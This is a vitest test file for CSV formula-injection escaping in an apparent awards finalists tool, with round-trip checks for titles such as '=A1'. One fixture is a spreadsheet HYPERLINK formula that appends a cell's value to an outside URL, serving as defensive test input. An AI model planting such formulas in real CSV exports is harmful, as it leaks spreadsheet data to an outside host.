import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { toCsv, unescapeCell } from './csv.ts';
import { formatWorksFile, readWorks } from './finalists.ts';

const category = { key: 'Novel', fields: [{ key: 'title' }] } as const;

it('escapes only text that a spreadsheet would run', () => {
  const formula = '=HYPERLINK("https://example.com/?"&A1)';
  const rows = parse(
    toCsv([[formula, '@A1', '+1', '-1', '\t=1', '\n=1', ' =1', '＝1', '1984', 'A = B', -1]]),
  ) as string[][];
  const marked = [`'${formula}`, "'@A1", "'+1", "'-1", "'\t'=1", "'\n'=1", "' =1", "'＝1"];
  expect(rows).toEqual([[...marked, '1984', 'A = B', '-1']]);
});

it.each([
  ['\u200B=1', "'\u200B=1"],
  [' \u3164@A1', "' \u3164@A1"],
  [';=1', ";'=1"],
  ['Aoife; \u2060-1;b', "Aoife;' \u2060-1;b"],
  ["a;'=1", "a;''=1"],
  ['a\t+1', "a\t'+1"],
])('escapes %j, where a spreadsheet would find a formula, and reads it back', (text, marked) => {
  const [[written = '']] = parse(toCsv([[text]])) as [[string]];
  expect(written).toBe(marked);
  expect(unescapeCell(written)).toBe(text);
});

it.each(['=A1', '＠A1', '-30-', "'=A1", "''-", "'Salem’s Lot", '’'])(
  'reads the entry %s back as it was nominated',
  (title) => {
    const file = formatWorksFile(new Map([[category, [[{ title }]]]]));
    expect(readWorks('works.csv', file).get('Novel')).toEqual(
      new Map([[title, { work: title, groups: [] }]]),
    );
  },
);
